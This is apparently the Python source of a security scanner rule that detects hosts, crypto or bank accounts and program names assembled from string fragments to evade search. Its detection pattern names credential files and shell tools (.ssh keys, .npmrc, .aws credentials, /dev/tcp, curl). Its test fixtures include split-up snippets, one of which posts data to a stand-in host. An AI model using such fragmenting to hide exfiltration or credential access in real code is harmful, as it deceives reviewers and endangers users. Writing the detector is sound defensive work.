"""Addresses, accounts and names of programs that a program writes in pieces.

`"exa" + "mple.com"`, `["0x7Be1", "d04A93", ...]` to be joined, `${A}${B}` of constants: nobody who
searches the package for them finds them, which is what pieces are for. What stands whole in one of
the pieces is not hidden: `BASE + "/v1"` is how programs are written.
"""

import re
from collections.abc import Iterator, Mapping
from itertools import islice

from scanning.rules import linear
from scanning.rules.rule import Category, Confidence, Rule, Severity, Sighting
from scanning.rules.scanned_file import ScannedFile

_IN_PIECES = Rule(
    id="hidden-text/in-pieces",
    category=Category.HIDDEN_TEXT,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    advice=(
        "An address, an account or the name of a program is put together from pieces here. Write"
        " it in one, so that people see whom a program talks to and what it runs."
    ),
    source="https://attack.mitre.org/techniques/T1027/010/",
)
RULES: tuple[Rule, ...] = (_IN_PIECES,)

_LITERAL = r"(?:\"[^\"\\\n]*\"|'[^'\\\n]*'|`[^`\\$\n]*`)"
_NAME = r"[A-Za-z_][A-Za-z0-9_]*"
_OPERAND = rf"(?:{_LITERAL}|{_NAME})"
# PHP joins with a dot.
_ADDED = linear.compiled(
    rf"{_OPERAND}(?:\s{{0,20}}\+\s{{0,20}}{_OPERAND})+|{_LITERAL}(?:\s{{0,20}}\.\s{{0,20}}{_LITERAL})+"
)
# Python joins what stands side by side; elsewhere it is an address and what it is called.
_BESIDE = linear.compiled(rf"{_LITERAL}(?:\s{{1,40}}{_LITERAL})+")
_LIST = linear.compiled(rf"[\[(]\s*{_LITERAL}(?:\s*,\s*{_LITERAL})+\s*,?\s*[\])]")
# `["htt", "ps:"].join("")` and `"".join(["htt", "ps:"])` say that they are one text.
_JOINED_LIST = linear.compiled(
    rf"\[\s*{_LITERAL}(?:\s*,\s*{_LITERAL})+\s*,?\s*\]\s*\.join\(\s*(?:''|\"\"|``)\s*\)"
    rf"|(?:''|\"\")\.join\(\s*[\[(]\s*{_LITERAL}(?:\s*,\s*{_LITERAL})+\s*,?\s*[\])]\s*\)"
)
# `${A}${B}` of shells and templates, `{a}{b}` of Python's f-strings.
_FILLED = linear.compiled(rf"(?:[a-z]{{2,5}}://)?(?:\$?\{{{_NAME}\}}|\${_NAME}){{2,}}")
_CONSTANT = linear.compiled(
    rf"(?m)^[\s]*(?:const |let |var |export |local |readonly |\$)?({_NAME})"
    rf"\s*(?::\s*\w+\s*)?=\s*({_LITERAL}|[\w:/.-]+)[ \t]*(?:;|,|$)"
)
_EACH = re.compile(
    rb"\"([^\"\\\n]*)\"|'([^'\\\n]*)'|`([^`\\$\n]*)`|([a-z]{2,5}://)|([A-Za-z_][A-Za-z0-9_]*)"
)
# A shorter text names nothing, and a longer one is no address; a program that has more constants is
# a table.
_SHORTEST_BYTES, _LONGEST_BYTES = 4, 400
_MOST_CONSTANTS = 400
_OF_A_FILE = 3
# Of an account: so many digits, which no word has.
_LEAST_DIGITS = 4
_DIGITS = frozenset(b"0123456789")

# Of IBANs those whose account is a number: codes of products are no such thing.
_ACCOUNT = re.compile(
    rb"0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|T[1-9A-HJ-NP-Za-km-z]{33}"
    rb"|[A-Z]{2}[0-9]{2}[A-Z]{0,4}[0-9]{9,26}|[1-9A-HJ-NP-Za-km-z]{43,44}"
)
# The part that somebody registers, or an IPv4 address. `data` + `.json` is a file's name.
_HOST = re.compile(
    rb"[a-z]{2,5}://(?:[a-z0-9-]{1,60}\.){0,5}?([a-z0-9-]{1,60}\.[a-z]{2,12})(?=[/:?\"' ]|$)"
    rb"|(?:[a-z]{2,5}://|^)([0-9]{1,3}(?:\.[0-9]{1,3}){3})(?=[/:?\"' ]|$)",
    re.I,
)
# None has two words, between which a long text may be wrapped.
_TELLING = re.compile(
    rb"child_process|os\.system|subprocess|powershell|/dev/tcp|\.ssh/|id_(?:rsa|ed25519)"
    rb"|\.(?:npmrc|netrc|pypirc|git-credentials|docker/config|kube/config)\b"
    rb"|\.aws/cred|api/webhooks|api\.telegram|wallet\.dat|\bcurl\b|\bwget\b|authorized_keys|\.gnupg",
    re.I,
)


def look(file: ScannedFile) -> Iterator[Sighting]:
    """Yield the first places where pieces make what none of them shows."""
    if file.is_text:
        yield from islice(_sightings(file.data), _OF_A_FILE)


def _sightings(data: bytes) -> Iterator[Sighting]:
    constants = {
        found[1]: _plain(found[2]) for found in islice(_CONSTANT.finditer(data), _MOST_CONSTANTS)
    }
    for pattern, hides in _JOINED:
        for found in pattern.finditer(data):
            pieces = _pieces(found.group(), constants)
            size = sum(map(len, pieces))
            if len(pieces) > 1 and _SHORTEST_BYTES <= size <= _LONGEST_BYTES and hides(pieces):
                yield Sighting(
                    rule_id=_IN_PIECES.id,
                    start=found.start(),
                    end=found.end(),
                    matched=found.group(),
                )


def _pieces(written: bytes, constants: Mapping[bytes, bytes]) -> list[bytes]:
    """Return what is joined, but for `join` itself; nothing where a part is not known."""
    pieces: list[bytes] = []
    for each in _EACH.finditer(written.replace(b".join(", b"(")):
        piece = constants.get(each[5]) if each[5] else _inside(each)
        if piece is None:
            return []
        pieces.append(piece)
    return [piece for piece in pieces if piece]


def _inside(literal: re.Match[bytes]) -> bytes:
    return literal[1] or literal[2] or literal[3] or literal[4] or b""


def _plain(literal: bytes) -> bytes:
    found = _EACH.fullmatch(literal)
    return _inside(found) if found and not found[5] else literal


def _hides_account(pieces: list[bytes]) -> bool:
    return _is_account(b"".join(pieces)) and not any(map(_is_account, pieces))


def _hides_anything(pieces: list[bytes]) -> bool:
    if any(b"://" in piece for piece in pieces[1:]):
        return False
    whole = b"".join(pieces)
    return (
        _hides_account(pieces)
        or any(_is_split(host[1] or host[2], pieces) for host in _HOST.finditer(whole))
        or any(_is_split(name.group(), pieces) for name in _TELLING.finditer(whole))
    )


def _hides_beside(pieces: list[bytes]) -> bool:
    return not any(b" " in piece for piece in pieces) and _hides_anything(pieces)


# Whoever joins a list says so elsewhere; most lists are of addresses, versions and words.
_JOINED = (
    (_ADDED, _hides_anything),
    (_BESIDE, _hides_beside),
    (_FILLED, _hides_anything),
    (_JOINED_LIST, _hides_anything),
    (_LIST, _hides_account),
)


def _is_account(whole: bytes) -> bool:
    """Tell an account by its form, and from words by its digits."""
    whole = whole.replace(b" ", b"")
    digits = sum(each in _DIGITS for each in whole)
    return digits >= _LEAST_DIGITS and _ACCOUNT.fullmatch(whole) is not None


def _is_split(name: bytes, pieces: list[bytes]) -> bool:
    return not any(name in piece for piece in pieces)


def _script(text: str, name: str = "content/scripts/a.py") -> ScannedFile:
    return ScannedFile(name, text.encode())


POSITIVE: Mapping[str, tuple[ScannedFile, ...]] = {
    _IN_PIECES.id: (
        _script('R = ["0x7Be1", "d04A93", "c58E2f", "60b7AA", "19e4D3", "8c52f0", "B6a17E"]'),
        _script('iban = "LT00" + "3250" + "0719" + "4418" + "2206"'),
        _script('requests.post("https://in.tide-" + "docs.net/u", data=body)'),
        _script('A = "https://in.ti"\nB = "de-docs.net"\nurl = A + B + "/u"'),
        _script('HOST = ("203.0."\n        "113.7")'),
        _script(
            'const a = "in.ti";\nconst b = "dedocs.net";\nfetch(`https://${a}${b}`)', "content/a.js"
        ),
        _script("A=https://in.ti\nB=dedocs.net\nset -- ${A}${B}/u", "content/a.sh"),
        _script("require('child' + '_pro' + 'cess')", "content/a.js"),
        _script("const h = ['https:/', '/in.ti', 'de-docs', '.com/v2'].join('')", "content/a.js"),
        _script('u = "".join(["https://in.ti", "de-docs.net"])'),
        _script("p = '.np' + 'mrc'", "content/a.js"),
        _script("$f = '/.ss' . 'h/id';", "content/a.php"),
    )
}
NEGATIVE: Mapping[str, tuple[ScannedFile, ...]] = {
    _IN_PIECES.id: (
        _script('BASE = "https://api.tidedocs.net"\nurl = BASE + "/v1" + "/rows"'),
        _script('url = "https://" + "api.tidedocs.net" + "/v1"'),
        _script('NAME = "data"\npath = NAME + ".json"'),
        _script('SUB = "api"\nDOMAIN = "tidedocs.net"\nurl = "https://" + SUB + "." + DOMAIN'),
        _script('CODES = ["AB12", "CD34", "EF56", "GH78", "IJ90"]'),
        _script('TO = "0x7Be1d04A93c58E2f60b7AA19e4D38c52f0B6a17E" + ""'),
        _script(
            'print("A long text that is wrapped, and that goes "\n      "on in the next line.")'
        ),
        _script('PAGES = ["https://docs.tidedocs.net", "https://tideboard.io"]'),
        _script("python-version: ['3.10', '3.11', '3.12']", "content/a.yml"),
        _script('click A "https://tidedocs.net" "Go to the pages"', "content/a.md"),
        _script("Write 'a' + 'b', or copy + paste; don't", "content/a.md"),
    )
}
